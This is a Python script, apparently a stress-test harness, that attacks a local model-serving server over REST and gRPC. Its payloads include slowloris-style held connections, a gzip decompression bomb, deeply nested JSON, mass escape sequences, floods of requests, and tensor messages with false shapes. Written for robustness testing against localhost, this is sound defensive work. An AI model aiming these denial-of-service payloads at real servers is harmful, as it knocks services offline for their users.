"""Attacks a server on this machine, in a process of its own: python attacker.py KIND REST_PORT GRPC_PORT NAME SECONDS.

Each kind repeats itself until the time is over, at a bounded rate; what the server answers does not matter.
"""

import contextlib
import functools
import gzip
import json
import os
import socket
import sys
import threading
import time
from collections.abc import Callable

import grpc

from pipeline.serving.protos import predict_pb2

kind, rest_port, grpc_port, name, seconds = (
    sys.argv[1],
    int(sys.argv[2]),
    int(sys.argv[3]),
    sys.argv[4],
    float(sys.argv[5]),
)
END = time.monotonic() + seconds
PATH = f"/v1/models/{name}:predict"
MANY = 200  # connections
METHOD = "/tensorflow.serving.PredictionService/Predict"


def rest(body: bytes, headers: str = "", length: int | None = None) -> bytes:
    head = f"POST {PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: {length or len(body)}\r\n{headers}\r\n"
    return head.encode() + body


def send(content: bytes, wait: bool = True) -> socket.socket | None:
    try:
        connection = socket.create_connection(("127.0.0.1", rest_port), timeout=20)
        connection.sendall(content)
        if wait:
            connection.recv(1 << 16)
            connection.close()
    except OSError:
        return None
    return connection


def hold(content: bytes, port: int) -> None:
    """Many connections that have sent so much, again as soon as they are closed."""
    held: list[socket.socket] = []
    while time.monotonic() < END:
        while len(held) < MANY and time.monotonic() < END:
            with contextlib.suppress(OSError):
                held.append(socket.create_connection(("127.0.0.1", port), timeout=1))
                held[-1].sendall(content)
        time.sleep(0.2)
        held = held[MANY // 4 :]


def again(call: Callable[[], object], threads: int, pause: float) -> None:
    def work() -> None:
        while time.monotonic() < END:
            call()
            time.sleep(pause)

    running = [threading.Thread(target=work) for _ in range(threads)]
    for one in running:
        one.start()
    for one in running:
        one.join()


def call(content: bytes, compression: grpc.Compression | None = None) -> None:
    options = [("grpc.max_send_message_length", -1)]
    with (
        grpc.insecure_channel(f"127.0.0.1:{grpc_port}", options) as channel,
        contextlib.suppress(grpc.RpcError),
    ):
        channel.unary_unary(METHOD)(content, timeout=20, compression=compression)


def message(texts: list[bytes], claimed: int) -> bytes:
    request = predict_pb2.PredictRequest()
    request.model_spec.name = name
    tensor = request.inputs["text"]
    tensor.dtype = 7
    tensor.string_val.extend(texts)
    tensor.tensor_shape.dim.add(size=claimed)
    return request.SerializeToString()


@functools.cache
def bomb() -> bytes:
    return gzip.compress(b" " * (100 << 20))


TINY = rest(json.dumps({"instances": ["a"]}).encode())
ATTACKS: dict[str, Callable[[], None]] = {
    "idle": lambda: hold(b"", rest_port),
    "half heads": lambda: hold(TINY[:40], rest_port),
    "half bodies": lambda: hold(rest(b"{", length=1_000), rest_port),
    "bombs": lambda: again(lambda: send(rest(bomb(), "Content-Encoding: gzip\r\n")), 2, 0.05),
    "lying shapes": lambda: again(lambda: call(message([b"a"], 134_217_727)), 4, 0.01),
    "deep JSON": lambda: again(lambda: send(rest(b"[" * 900_000)), 2, 0.01),
    "many values": lambda: again(lambda: send(rest(b'{"a":[' + b"[]," * 5_000_000 + b"1]}")), 1, 0.05),
    "escapes": lambda: again(lambda: send(rest(b'{"instances":["' + b"\\u4eac" * 2_000_000 + b'"]}')), 1, 0.05),
    "many texts": lambda: again(lambda: send(rest(json.dumps({"instances": ["a b"] * 50_000}).encode())), 1, 0.05),
    "long texts": lambda: again(
        lambda: send(rest(json.dumps({"instances": ["a b " * 100_000] * 8}).encode())), 1, 0.05
    ),
    "large messages": lambda: again(lambda: call(message([b""] * 3_000_000, 3_000_000)), 1, 0.05),
    "tiny requests": lambda: again(lambda: send(TINY), 8, 0.0),
}

if __name__ == "__main__":
    os.nice(15)  # as if it were on another machine
    ATTACKS[kind]()
